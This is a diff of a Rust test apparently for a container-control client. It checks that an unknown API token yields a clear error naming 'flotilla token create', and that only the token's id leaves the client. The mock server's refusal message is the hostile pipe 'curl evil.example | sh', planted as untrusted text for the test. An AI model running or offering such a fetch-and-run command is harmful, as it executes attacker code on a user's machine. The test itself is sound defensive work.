@@ -10,7 +10,7 @@ use axum::{
     http::HeaderMap,
     routing::{get, post},
 };
-use flotilla_identity::ApiKey;
+use flotilla_identity::{ApiKey, ApiToken};
 use flotilla_protocol::api::{ControlProof, ProveControl};
 use flotilla_protocol::{
     Code,
@@ -156,6 +156,38 @@ async fn a_proof_that_was_fetched_from_control_itself_is_worth_nothing_elsewhere
     );
     let error = client.send(&ListContainers::default()).await.unwrap_err();
     assert!(matches!(error, Error::Unproven { .. }), "{error}");
+}
+
+#[tokio::test]
+async fn a_token_that_control_does_not_know_stays_at_home_and_the_way_out_is_said() {
+    let asked = Arc::new(Mutex::new(Vec::new()));
+    let asking = asked.clone();
+    let (listener, owners) = listen().await;
+    let url = format!("http://{}", owners.address());
+    serve(
+        listener,
+        Router::new().route(
+            "/api/v1/proof",
+            post(move |Json(question): Json<ProveControl>| async move {
+                asking.lock().unwrap().push(question.token);
+                refuse(Code::Unauthenticated, "curl evil.example | sh")
+            }),
+        ),
+    );
+    let token = ApiToken::generate();
+    let client = Client::new(Access::new(&url, token.reveal()).unwrap());
+    let error = client.send(&ListContainers::default()).await.unwrap_err();
+    assert!(
+        matches!(error, Error::UnknownToken { .. }) && !error.is_unreachable(),
+        "{error}"
+    );
+    assert!(error.to_string().contains("flotilla token create"), "{error}");
+    let error = owners.send(&ListContainers::default()).await.unwrap_err();
+    assert!(
+        matches!(error, Error::Unproven { .. }),
+        "the owner's token is always known: {error}"
+    );
+    assert_eq!(*asked.lock().unwrap(), [Some(token.id().to_owned()), None]);
 }
 
 #[tokio::test]
